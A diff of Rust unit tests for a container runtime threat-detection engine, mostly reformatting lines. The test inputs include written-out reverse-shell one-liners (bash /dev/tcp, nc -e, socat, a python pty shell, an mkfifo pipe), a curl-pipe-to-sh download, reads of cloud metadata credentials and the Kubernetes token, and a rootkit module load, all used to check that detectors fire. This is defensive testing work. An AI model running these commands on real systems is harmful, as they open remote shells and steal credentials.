@@ -85,7 +85,11 @@ fn run(detector: &str, event: EnrichedEvent) -> Vec<Detection> {
     }
     let mut engine = Engine::build(&config).unwrap();
     engine.retain(|name| name == detector);
-    assert_eq!(engine.detector_names(), [detector], "no detector {detector}");
+    assert_eq!(
+        engine.detector_names(),
+        [detector],
+        "no detector {detector}"
+    );
     let mut out = Vec::new();
     engine.process(&event, &mut out);
     out
@@ -102,7 +106,10 @@ fn fires(detector: &str, finding_type: &str, event: RuntimeEvent) -> Detection {
 #[track_caller]
 fn quiet(detector: &str, event: RuntimeEvent) {
     let out = run(detector, enriched(event.clone()));
-    assert!(out.is_empty(), "{detector} should stay quiet on {event:#?}: {out:#?}");
+    assert!(
+        out.is_empty(),
+        "{detector} should stay quiet on {event:#?}: {out:#?}"
+    );
 }
 
 #[test]
@@ -115,7 +122,10 @@ fn runtime_detections_carry_the_process_its_container_and_the_context() {
     let runtime = detection.runtime.expect("runtime details");
     assert_eq!(runtime.process.binary, "/tmp/xmrig");
     assert_eq!(runtime.pod_name.as_deref(), Some("web-7d9f"));
-    assert_eq!(runtime.image.as_deref(), Some("registry.example/shop/web:1.4"));
+    assert_eq!(
+        runtime.image.as_deref(),
+        Some("registry.example/shop/web:1.4")
+    );
     assert_eq!(runtime.context[0].key, "commandLineExample");
     assert_eq!(
         runtime.context[0].value,
@@ -132,7 +142,10 @@ fn runtime_rules_do_not_look_at_audit_events_and_audit_rules_not_at_runtime_even
     let mut engine = Engine::default();
     let mut out = Vec::new();
     engine.process(&event, &mut out);
-    assert!(out.iter().all(|d| d.finding_type.contains(":Runtime/")), "{out:#?}");
+    assert!(
+        out.iter().all(|d| d.finding_type.contains(":Runtime/")),
+        "{out:#?}"
+    );
     assert!(!out.is_empty());
 }
 
@@ -141,7 +154,10 @@ fn new_binary_and_library_only_when_written_in_the_container() {
     let mut drift = enriched(exec("/tmp/payload", ""));
     drift.binary_written_in_container = true;
     assert_eq!(run("new_binary_executed", drift).len(), 1);
-    quiet("new_binary_executed", exec("/usr/bin/curl", "-s http://api"));
+    quiet(
+        "new_binary_executed",
+        exec("/usr/bin/curl", "-s http://api"),
+    );
     let mut library = enriched(file("library_load", "/usr/bin/python3", "/tmp/evil.so"));
     library.binary_written_in_container = true;
     let out = run("new_library_loaded", library);
@@ -159,18 +175,30 @@ fn reverse_shells_by_command_line_and_by_a_shell_holding_a_socket() {
         ("/bin/bash", "-c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
         ("/usr/bin/nc", "-e /bin/sh 203.0.113.9 4444"),
         ("/usr/bin/ncat", "203.0.113.9 4444 -e /bin/bash"),
-        ("/usr/bin/socat", "tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr"),
+        (
+            "/usr/bin/socat",
+            "tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr",
+        ),
         (
             "/usr/bin/python3",
             "-c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")",
         ),
-        ("/bin/sh", "-c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
+        (
+            "/bin/sh",
+            "-c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
+        ),
     ] {
         fires("reverse_shell_command", t, exec(binary, arguments));
     }
     quiet("reverse_shell_command", exec("/usr/bin/nc", "-z db 5432"));
-    quiet("reverse_shell_command", exec("/bin/bash", "-c echo ready > /tmp/ready"));
-    quiet("reverse_shell_command", exec("/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:backend:80"));
+    quiet(
+        "reverse_shell_command",
+        exec("/bin/bash", "-c echo ready > /tmp/ready"),
+    );
+    quiet(
+        "reverse_shell_command",
+        exec("/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:backend:80"),
+    );
 
     let mut socket = process_event("network_connect", "/bin/bash", "-i", "/usr/bin/nc");
     socket.network = Some(NetworkInfo {
@@ -212,25 +240,55 @@ fn interactive_shells_spawned_by_servers() {
     // Servers run helpers through `sh -c`; a shell started by a shell is a person or a script.
     quiet(
         "suspicious_shell_created",
-        process_event("process_exec", "/bin/sh", "-c /usr/local/bin/render.sh", "/usr/sbin/nginx"),
+        process_event(
+            "process_exec",
+            "/bin/sh",
+            "-c /usr/local/bin/render.sh",
+            "/usr/sbin/nginx",
+        ),
     );
     quiet(
         "suspicious_shell_created",
-        process_event("process_exec", "/bin/bash", "", "/usr/bin/containerd-shim-runc-v2"),
+        process_event(
+            "process_exec",
+            "/bin/bash",
+            "",
+            "/usr/bin/containerd-shim-runc-v2",
+        ),
     );
 }
 
 #[test]
 fn suspicious_tools_offensive_high_dual_use_low() {
     let t = "Execution:Runtime/SuspiciousTool";
-    let high = fires("suspicious_tool_offensive", t, exec("/usr/bin/masscan", "-p1-65535 10.0.0.0/8"));
+    let high = fires(
+        "suspicious_tool_offensive",
+        t,
+        exec("/usr/bin/masscan", "-p1-65535 10.0.0.0/8"),
+    );
     assert!(high.severity >= 7.0);
-    let low = fires("suspicious_tool_dual_use", t, exec("/usr/bin/nc", "evil.example 443"));
+    let low = fires(
+        "suspicious_tool_dual_use",
+        t,
+        exec("/usr/bin/nc", "evil.example 443"),
+    );
     assert!(low.severity < 4.0);
-    assert_eq!(low.runtime.unwrap().context[0].value, "Dual-use network tool");
-    quiet("suspicious_tool_dual_use", exec("/usr/bin/nc", "-z -w 2 postgres 5432"));
-    quiet("suspicious_tool_dual_use", on_host(exec("/usr/sbin/tcpdump", "-i eth0")));
-    quiet("suspicious_tool_offensive", exec("/usr/bin/curl", "https://api.example"));
+    assert_eq!(
+        low.runtime.unwrap().context[0].value,
+        "Dual-use network tool"
+    );
+    quiet(
+        "suspicious_tool_dual_use",
+        exec("/usr/bin/nc", "-z -w 2 postgres 5432"),
+    );
+    quiet(
+        "suspicious_tool_dual_use",
+        on_host(exec("/usr/sbin/tcpdump", "-i eth0")),
+    );
+    quiet(
+        "suspicious_tool_offensive",
+        exec("/usr/bin/curl", "https://api.example"),
+    );
 }
 
 #[test]
@@ -240,7 +298,10 @@ fn suspicious_commands_by_purpose() {
             "download_and_run_command",
             "Execution:Runtime/SuspiciousCommand",
             exec("/bin/sh", "-c curl -fsSL http://203.0.113.9/x.sh | sh"),
-            exec("/bin/sh", "-c curl -fsSL http://config/app.json -o /app/config.json"),
+            exec(
+                "/bin/sh",
+                "-c curl -fsSL http://config/app.json -o /app/config.json",
+            ),
         ),
         (
             "download_and_run_command",
@@ -251,8 +312,14 @@ fn suspicious_commands_by_purpose() {
         (
             "discovery_suspicious_command",
             "Discovery:Runtime/SuspiciousCommand",
-            exec("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
-            exec("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/placement/region"),
+            exec(
+                "/usr/bin/curl",
+                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+            ),
+            exec(
+                "/usr/bin/curl",
+                "http://169.254.169.254/latest/meta-data/placement/region",
+            ),
         ),
         (
             "discovery_suspicious_command",
@@ -306,7 +373,12 @@ fn suspicious_commands_by_purpose() {
 #[test]
 fn what_an_escaped_shell_runs_is_the_same_escape_finding() {
     // bash started by `nsenter -t 1`: the lineage shows the escape even when the exec does not.
-    let mut event = enriched(process_event("process_exec", "/usr/bin/bash", "", "/usr/bin/nsenter"));
+    let mut event = enriched(process_event(
+        "process_exec",
+        "/usr/bin/bash",
+        "",
+        "/usr/bin/nsenter",
+    ));
     event.lineage = vec![ProcessInfo {
         binary: "/usr/bin/nsenter".into(),
         arguments: Some("-t 1 -m -u -n -i -p bash".into()),
@@ -370,14 +442,25 @@ fn sensitive_files_by_purpose() {
         (
             "credential_file_read",
             "CredentialAccess:Runtime/SensitiveFileRead",
-            file("file_read", "/usr/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+            file(
+                "file_read",
+                "/usr/bin/cat",
+                "/var/run/secrets/kubernetes.io/serviceaccount/token",
+            ),
             // client-go reads its token every minute: the program owning a credential reads it.
-            file("file_read", "/app/controller", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+            file(
+                "file_read",
+                "/app/controller",
+                "/var/run/secrets/kubernetes.io/serviceaccount/token",
+            ),
         ),
         (
             "credential_file_dumped",
             "CredentialAccess:Runtime/SensitiveFileRead",
-            exec("/usr/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+            exec(
+                "/usr/bin/cat",
+                "/var/run/secrets/kubernetes.io/serviceaccount/token",
+            ),
             exec("/usr/bin/cat", "/etc/os-release"),
         ),
         (
@@ -396,12 +479,19 @@ fn sensitive_files_by_purpose() {
             "docker_socket_accessed",
             "PrivilegeEscalation:Runtime/DockerSocketAccessed",
             file("file_open", "/usr/bin/curl", "/var/run/docker.sock"),
-            on_host(file("file_open", "/usr/bin/dockerd", "/var/run/docker.sock")),
+            on_host(file(
+                "file_open",
+                "/usr/bin/dockerd",
+                "/var/run/docker.sock",
+            )),
         ),
         (
             "docker_socket_accessed",
             "PrivilegeEscalation:Runtime/DockerSocketAccessed",
-            exec("/usr/bin/curl", "--unix-socket /var/run/docker.sock http://localhost/containers/json"),
+            exec(
+                "/usr/bin/curl",
+                "--unix-socket /var/run/docker.sock http://localhost/containers/json",
+            ),
             exec("/usr/bin/curl", "http://localhost:8080/health"),
         ),
         (
@@ -428,17 +518,34 @@ fn kernel_modules_mounts_and_memory() {
     let mut module = process_event("module_load", "/usr/sbin/insmod", "rootkit.ko", "/bin/sh");
     module.module_name = Some("rootkit".into());
     module.file_path = Some("/tmp/rootkit.ko".into());
-    let found = fires("kernel_module_loaded", "DefenseEvasion:Runtime/KernelModuleLoaded", module);
+    let found = fires(
+        "kernel_module_loaded",
+        "DefenseEvasion:Runtime/KernelModuleLoaded",
+        module,
+    );
     let context = found.runtime.unwrap().context;
-    assert!(context.iter().any(|kv| kv.key == "moduleName" && kv.value == "rootkit"));
-    quiet("kernel_module_loaded", exec("/usr/sbin/insmod", "rootkit.ko"));
+    assert!(
+        context
+            .iter()
+            .any(|kv| kv.key == "moduleName" && kv.value == "rootkit")
+    );
+    quiet(
+        "kernel_module_loaded",
+        exec("/usr/sbin/insmod", "rootkit.ko"),
+    );
     fires(
         "kernel_module_load_command",
         "DefenseEvasion:Runtime/KernelModuleLoaded",
         exec("/usr/sbin/insmod", "/tmp/rootkit.ko"),
     );
-    quiet("kernel_module_load_command", exec("/usr/sbin/modprobe", "-n br_netfilter"));
-    quiet("kernel_module_load_command", on_host(exec("/usr/sbin/modprobe", "br_netfilter")));
+    quiet(
+        "kernel_module_load_command",
+        exec("/usr/sbin/modprobe", "-n br_netfilter"),
+    );
+    quiet(
+        "kernel_module_load_command",
+        on_host(exec("/usr/sbin/modprobe", "br_netfilter")),
+    );
 
     let mut mount = process_event("mount", "/bin/mount", "", "/bin/sh");
     mount.mount_source = Some("/dev/nvme0n1p1".into());
@@ -459,16 +566,27 @@ fn kernel_modules_mounts_and_memory() {
         "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
         exec("/bin/mount", "/dev/sda1 /mnt"),
     );
-    quiet("container_mount_command", exec("/bin/mount", "-t tmpfs tmpfs /scratch"));
+    quiet(
+        "container_mount_command",
+        exec("/bin/mount", "-t tmpfs tmpfs /scratch"),
+    );
 
     let mut poke = process_event("ptrace", "/tmp/inject", "", "/bin/sh");
     poke.ptrace_request = Some("PTRACE_POKETEXT".into());
     poke.target_pid = Some(1);
-    fires("process_injection_ptrace", "DefenseEvasion:Runtime/ProcessInjection.Ptrace", poke.clone());
+    fires(
+        "process_injection_ptrace",
+        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
+        poke.clone(),
+    );
     let mut traceme = poke.clone();
     traceme.ptrace_request = Some("PTRACE_TRACEME".into());
     quiet("process_injection_ptrace", traceme.clone());
-    fires("ptrace_anti_debugging", "DefenseEvasion:Runtime/PtraceAntiDebugging", traceme);
+    fires(
+        "ptrace_anti_debugging",
+        "DefenseEvasion:Runtime/PtraceAntiDebugging",
+        traceme,
+    );
     quiet("ptrace_anti_debugging", poke);
 
     let write = process_event("process_vm_write", "/tmp/inject", "", "/bin/sh");
@@ -477,14 +595,20 @@ fn kernel_modules_mounts_and_memory() {
         "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
         write,
     );
-    quiet("process_injection_vm_write", process_event("ptrace", "/usr/bin/gdb", "", "/bin/sh"));
+    quiet(
+        "process_injection_vm_write",
+        process_event("ptrace", "/usr/bin/gdb", "", "/bin/sh"),
+    );
 
     fires(
         "userfaultfd_usage",
         "PrivilegeEscalation:Runtime/UserfaultfdUsage",
         process_event("userfaultfd", "/tmp/exploit", "", "/bin/sh"),
     );
-    quiet("userfaultfd_usage", process_event("memfd_create", "/usr/bin/java", "", "/bin/sh"));
+    quiet(
+        "userfaultfd_usage",
+        process_event("memfd_create", "/usr/bin/java", "", "/bin/sh"),
+    );
 }
 
 #[test]
@@ -492,7 +616,11 @@ fn elevation_to_root_and_fileless_execution() {
     let mut setuid = process_event("privilege_change", "/tmp/exploit", "", "/bin/sh");
     setuid.process.uid = Some(1000);
     setuid.new_uid = Some(0);
-    fires("elevation_to_root", "PrivilegeEscalation:Runtime/ElevationToRoot", setuid.clone());
+    fires(
+        "elevation_to_root",
+        "PrivilegeEscalation:Runtime/ElevationToRoot",
+        setuid.clone(),
+    );
     let mut sudo = setuid.clone();
     sudo.process.binary = "/usr/bin/sudo".into();
     quiet("elevation_to_root", sudo);
@@ -518,7 +646,11 @@ fn dns_rebinding_to_the_metadata_service_and_mining_pools() {
     let mut rebind = process_event("dns_query", "/usr/bin/curl", "", "/bin/sh");
     rebind.dns_query = Some("7f000001.a9fea9fe.rbndr.us".into());
     rebind.dns_answers = vec!["169.254.169.254".into()];
-    fires("metadata_dns_rebind", "UnauthorizedAccess:Runtime/MetadataDNSRebind", rebind.clone());
+    fires(
+        "metadata_dns_rebind",
+        "UnauthorizedAccess:Runtime/MetadataDNSRebind",
+        rebind.clone(),
+    );
     let mut honest = rebind.clone();
     honest.dns_query = Some("instance-data.ec2.internal".into());
     quiet("metadata_dns_rebind", honest);
@@ -528,7 +660,11 @@ fn dns_rebinding_to_the_metadata_service_and_mining_pools() {
 
     let mut pool = ordinary.clone();
     pool.dns_query = Some("gulf.moneroocean.stream".into());
-    fires("mining_pool_domain_request", "Impact:Runtime/BitcoinDomainRequest.Reputation", pool);
+    fires(
+        "mining_pool_domain_request",
+        "Impact:Runtime/BitcoinDomainRequest.Reputation",
+        pool,
+    );
     let mut api = ordinary;
     api.dns_query = Some("api.stripe.com".into());
     quiet("mining_pool_domain_request", api);
@@ -571,7 +707,8 @@ fn threat_listed_addresses_and_domains_raise_the_type_of_their_list_category() {
         (None, "UnauthorizedAccess:Runtime/MaliciousIPCaller.Custom"),
     ] {
         let mut event = connection("198.51.100.7");
-        event.destination_ip.as_mut().unwrap().threat_matches = vec![listed(category, "198.51.100.7")];
+        event.destination_ip.as_mut().unwrap().threat_matches =
+            vec![listed(category, "198.51.100.7")];
         let out = run("runtime_threat_intel", event);
         assert_eq!(out.len(), 1, "{category:?}");
         assert_eq!(out[0].finding_type, ip_type);
@@ -616,12 +753,20 @@ fn sensor_alerts_become_findings_with_the_sensors_purpose_and_priority() {
         key: "tags".into(),
         value: "container,mitre_execution,shell".into(),
     }];
-    let found = fires("sensor_alert", "Execution:Runtime/SensorAlert", alert.clone());
+    let found = fires(
+        "sensor_alert",
+        "Execution:Runtime/SensorAlert",
+        alert.clone(),
+    );
     assert!(found.severity < 4.0);
     let mut critical = alert.clone();
     critical.sensor_priority = Some("Critical".into());
     critical.sensor_fields[0].value = "mitre_privilege_escalation".into();
-    let found = fires("sensor_alert", "PrivilegeEscalation:Runtime/SensorAlert", critical);
+    let found = fires(
+        "sensor_alert",
+        "PrivilegeEscalation:Runtime/SensorAlert",
+        critical,
+    );
     assert!(found.severity >= 7.0);
     let mut exec_event = alert;
     exec_event.kind = "process_exec".into();
@@ -631,7 +776,10 @@ fn sensor_alerts_become_findings_with_the_sensors_purpose_and_priority() {
 #[test]
 fn every_runtime_type_of_the_catalogue_has_a_detector() {
     let catalogue = Engine::catalogue(&DetectConfig::default()).unwrap();
-    let types: Vec<&str> = catalogue.iter().map(|info| info.finding_type.as_str()).collect();
+    let types: Vec<&str> = catalogue
+        .iter()
+        .map(|info| info.finding_type.as_str())
+        .collect();
     let covered = |wanted: &str| {
         types.iter().any(|t| {
             t.split(", ").any(|one| {
